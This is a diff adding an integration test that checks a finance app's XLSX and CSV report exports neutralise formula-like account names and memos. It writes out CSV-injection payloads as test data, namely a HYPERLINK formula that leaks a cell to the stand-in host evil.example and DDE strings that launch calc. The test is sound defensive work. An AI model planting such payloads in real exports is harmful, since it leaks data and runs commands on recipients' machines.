@@ -130,3 +130,90 @@ def test_the_upload_endpoint_tells_an_outsider_nothing_about_an_org(stack, db, o
     long_id = post("x" * 5000)
     assert long_id.status_code == 400 and "5,000 characters" in long_id.json()["message"]
     assert len(long_id.text) < 1000
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&B5,"Product revenue")'
+
+
+def test_the_pack_built_from_formula_like_names_and_memos_holds_no_formula(stack, db, org_id):
+    import csv
+    import io
+    import re
+    import uuid
+
+    import requests
+    from finance_core.export_text import is_formula_like
+    from google.cloud import firestore
+    from openpyxl import load_workbook
+
+    seed_org(db, org_id, all_periods_open=True)
+    db.document(f"organizations/{org_id}/accounts/4100").update({"name": HOSTILE_NAME})
+    db.document(f"organizations/{org_id}/entities/us-east").update({"name": "@cmd|' /C calc'!A0"})
+    lines = [
+        _memo(event(org_id, "x-1", 1, amount="1000.00"), HOSTILE_NAME),
+        _memo(event(org_id, "x-2", 1, account="6100", amount="-250.00"), "-2+3+cmd|' /C calc'!A0"),
+        event(org_id, "x-3", 1, scenario="budget", amount="900.00"),
+    ]
+    publish(stack, lines)
+    wait_until(
+        lambda: (
+            (s := db.document(f"organizations/{org_id}/aggregates/_all__2026-10__actual").get()).exists
+            and s.to_dict()["accounts"].get("6100") == -25000
+        ),
+        timeout=300,
+        what="the actuals of the month",
+    )
+    # Memos are data: stored as sent; only what leaves the product is neutralised.
+    memo = db.document(f"organizations/{org_id}/financial_records/x-1").get().to_dict()["memo"]
+    assert memo == HOSTILE_NAME
+
+    viewer = sign_up(stack)
+    db.document(f"organizations/{org_id}/members/{viewer.uid}").set({"uid": viewer.uid, "role": "viewer"})
+    request_id = f"req-{uuid.uuid4().hex[:10]}"
+    db.document(f"organizations/{org_id}/report_requests/{request_id}").set(
+        {"period": "2026-10", "requested_by": viewer.uid, "requested_at": firestore.SERVER_TIMESTAMP}
+    )
+    report = wait_until(
+        lambda: (
+            (s := db.document(f"organizations/{org_id}/reports/{request_id}").get()).exists
+            and s.to_dict().get("status") in ("succeeded", "failed")
+            and s.to_dict()
+        ),
+        timeout=180,
+        what="the report",
+    )
+    assert report["status"] == "succeeded", report.get("error")
+    files = {f["name"]: f for f in report["files"]}
+
+    def fetch(name: str) -> bytes:
+        response = requests.get(
+            files[name]["download_url"], headers={"Authorization": f"Bearer {viewer.id_token}"}, timeout=60
+        )
+        assert response.status_code == 200, response.text
+        return response.content
+
+    [xlsx_name] = [n for n in files if n.endswith(".xlsx")]
+    book = load_workbook(io.BytesIO(fetch(xlsx_name)))
+    own_formula = re.compile(r"^=[A-Z]+[0-9]+([+-][A-Z]+[0-9]+)*$")
+    shown = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    assert own_formula.match(str(cell.value)), (sheet.title, cell.coordinate, cell.value)
+                elif cell.data_type == "s":
+                    assert not is_formula_like(cell.value), (sheet.title, cell.coordinate, cell.value)
+                    shown.add(cell.value)
+    assert "'" + HOSTILE_NAME in shown
+    csv_names = [n for n in files if n.endswith(".csv")]
+    assert csv_names
+    for name in csv_names:
+        text = fetch(name).decode("utf-8-sig")
+        for row in csv.reader(io.StringIO(text)):
+            assert not any(is_formula_like(cell) for cell in row), (name, row)
+    consolidated = list(
+        csv.reader(io.StringIO(fetch(next(n for n in csv_names if "pnl___all" in n)).decode("utf-8-sig")))
+    )
+    by_account = {row[1]: row for row in consolidated[1:] if row[1]}
+    assert by_account["4100"][2] == "'" + HOSTILE_NAME
+    assert by_account["6100"][5] == "-250.00"  # a negative amount stays a plain, parseable number
